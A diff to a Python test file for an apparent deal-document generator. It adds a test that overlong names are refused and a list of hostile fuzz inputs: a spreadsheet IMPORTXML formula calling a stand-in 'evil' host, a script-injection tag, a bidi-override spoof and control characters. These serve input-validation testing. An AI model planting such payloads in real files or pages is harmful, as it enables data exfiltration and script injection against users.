@@ -147,17 +147,23 @@ def test_every_country_offered_has_holidays_and_every_language_a_country_is_one_
     assert companies.language_there("", "ko") == "en"
 
 
+def test_a_name_that_is_no_name_any_more_is_refused_rather_than_cut() -> None:
+    with pytest.raises(InputError) as caught:
+        deal_of(replace(START, buyer="x" * 50_000, name="y" * 201), TEMPLATES, TODAY)
+    assert [mistake.place for mistake in caught.value.mistakes] == ["Buyer", "What you call the deal"]
+
+
 HOSTILE = [
     '=IMPORTXML("http://evil","//a")',
     "<script>alert(1)</script>",
     "\u202eevil\u202c",
-    "😀" * 300,
+    "😀" * 150,
     "a\x00b\x1fc",
 ]
 
 
 @given(
-    buyer=st.text(max_size=300) | st.sampled_from(HOSTILE),
+    buyer=st.text(max_size=200) | st.sampled_from(HOSTILE),
     name=st.text(max_size=80) | st.sampled_from(HOSTILE),
     company=st.text(max_size=80) | st.sampled_from(HOSTILE),
 )
